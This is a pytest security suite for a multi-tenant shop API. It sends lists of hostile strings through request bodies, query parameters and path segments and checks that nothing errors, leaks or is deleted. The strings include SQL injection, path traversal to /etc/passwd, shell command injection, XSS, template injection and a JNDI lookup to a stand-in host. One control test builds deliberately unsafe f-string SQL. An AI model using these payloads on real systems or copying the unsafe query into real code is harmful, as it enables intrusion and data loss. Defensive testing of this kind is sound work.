"""SQL, templates, formats and paths in every text that a client may send: no error 500, no difference, no loss."""

from __future__ import annotations

from typing import Any

import psycopg
import pytest

from security.api.routes import ATTACKED, Operation, put, text_places
from security.api.tenants import Shop, tenant_tables
from shopfloor.base.ids import new_id

pytestmark = pytest.mark.asyncio(loop_scope="module")

TEXTS = [
    "' or '1'='1",
    "' or 1=1 --",
    "'; drop table jobs; --",
    "') union select null, rolpassword from pg_authid --",
    "1; select pg_sleep(20)",
    "\\'; delete from projects where ''='",
    "%' or id is not null or '%'='",
    "$$; truncate jobs cascade; $$",
    "%s %(name)s {0} {name.__class__.__mro__} %n",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "$(touch /tmp/shopfloor-owned)",
    "`touch /tmp/shopfloor-owned`",
    "; touch /tmp/shopfloor-owned #",
    "--upload-pack=touch /tmp/shopfloor-owned",
    "-oProxyCommand=touch",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example/x}",
    "*)(uid=*))(|(uid=*",
    "a" * 100_000,
    "😀" * 1_000,
    "e\u0301" * 50,
    "\u202etxt.exe",
    "\ufeff",
    "İ",
    "null",
    "true",
    "0x1F",
    "1e400",
    "-1",
]
SQL = 8  # of them
TIMES = ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "253402300800"]  # outside what a row can hold
IN_BODIES = [*TIMES, *TEXTS[:2], *TEXTS[8:11], TEXTS[14], TEXTS[18], TEXTS[23], TEXTS[26]]
WITH_TEXTS = [each for each in ATTACKED if each.body is not None and list(text_places(each.body))]
WITH_QUERIES = [each for each in ATTACKED if each.method == "get" and each.query]
WITH_PATHS = [each for each in ATTACKED if each.path_parameters]


def _counts(shop: Shop) -> dict[str, int]:
    return {table: len(rows) for table, rows in shop.rows_of(shop.acme).items()}


@pytest.mark.parametrize("asked", WITH_TEXTS, ids=str)
async def test_a_text_in_a_body_is_data_wherever_it_stands(shop: Shop, asked: Operation, record_property: Any):
    assert asked.body is not None
    places = [place for place, _ in text_places(asked.body)]
    other = shop.rows_of(shop.other)
    for place in places:
        path = await shop.acme.path_of(asked.path)
        before = _counts(shop)
        for text in IN_BODIES[: 3 if asked.path.endswith("/test") else None]:  # which calls the provider each time
            body = put(await shop.acme.body_of(asked), place, text)
            answer = await shop.request(shop.acme, asked, path, json=body)
            assert answer.status_code < 500, (place, text[:60], answer.text)
            assert str(answer.status_code) in asked.description["responses"], (place, text[:60], answer.text)
            assert "49" not in answer.headers.get("location", "").rpartition("/")[2][:2], "a template was evaluated"
        after = _counts(shop)
        assert all(after[table] >= count for table, count in before.items()), "rows are gone"
    assert shop.rows_of(shop.other) == other
    record_property("cases", len(places) * len(IN_BODIES))


@pytest.mark.parametrize("asked", WITH_QUERIES, ids=str)
async def test_a_text_in_a_query_is_data(shop: Shop, asked: Operation, record_property: Any):
    path = await shop.acme.path_of(asked.path)
    before = shop.rows_of(shop.acme)
    for name in asked.query:
        harmless = await shop.request(shop.acme, asked, path, params={name: "nothing-of-this-name"})
        for text in TEXTS[:20]:
            answer = await shop.request(shop.acme, asked, path, params={name: text[:2_000]})
            away = answer.status_code == 503 and answer.json()["code"] == "identity-provider-away"
            assert away or answer.status_code in {200, 404, 409, 422}, (name, text[:60], answer.text)
            if answer.status_code == 200 and harmless.status_code == 200 and text in TEXTS[:SQL]:
                assert _found(answer.json()) <= _found(harmless.json()), (name, text)
    after = shop.rows_of(shop.acme)
    for table in ("audit_entries", "audit_origins") if asked.path == "/api/v1/audit" else ():
        del before[table], after[table]  # reading it is on record
    assert after == before
    record_property("cases", len(asked.query) * 20)


def _found(answer: Any) -> int:
    return len(answer.get("items", [])) if isinstance(answer, dict) else len(answer)


@pytest.mark.parametrize("asked", WITH_PATHS, ids=str)
async def test_a_text_in_a_path_is_data_and_leads_nowhere_else(shop: Shop, asked: Operation, record_property: Any):
    from urllib.parse import quote

    before = shop.rows_of(shop.acme)
    tried = [
        *(quote(text[:500], safe="") for text in TEXTS[:26]),
        "%2e%2e%2f%2e%2e", "%252e%252e%252f", "..%2f..%2fapi%2fv1%2fme", "..;", "%5c..%5c", "*", "0",
    ]  # fmt: skip
    for text in tried:
        steps = [text if part.startswith("{") else part for part in asked.path.split("/")]
        answer = await shop.request(shop.acme, asked, "/".join(steps))
        assert answer.status_code in {404, 405, 422}, (text, answer.status_code, answer.text)
    assert shop.rows_of(shop.acme) == before
    record_property("cases", len(tried))


async def test_the_tables_are_still_there_and_no_command_ran(shop: Shop):
    with psycopg.connect(shop.owner_url) as connection:
        assert {"jobs", "projects", "users", "events"} <= set(tenant_tables(connection))
    import os

    assert not os.path.exists("/tmp/shopfloor-owned")  # noqa: ASYNC240, PTH110


async def test_a_query_that_pastes_its_text_would_be_seen(shop: Shop):
    """The positive control: the same texts, pasted into SQL as a careless route would."""
    noticed = set()
    for text in TEXTS[:8]:
        with psycopg.connect(shop.owner_url) as connection:
            try:
                pasted: Any = f"select slug from projects where slug = '{text}'"
                found = connection.execute(pasted).fetchall()
                harmless = connection.execute("select slug from projects where slug = %s", (text,)).fetchall()
                if len(found) > len(harmless):
                    noticed.add(text)
            except psycopg.Error:
                noticed.add(text)
            connection.rollback()
    assert len(noticed) >= 6


async def test_a_text_that_fits_is_kept_as_it_is(shop: Shop):
    """The positive control of the bodies: the attack is stored and comes back as the text that it is."""
    name = "'; drop table jobs; -- {{7*7}} <script>"
    made = await shop.acme.client.post("/api/v1/projects", json={"slug": f"p-{new_id().hex[-8:]}", "name": name})
    assert made.json()["name"] == name
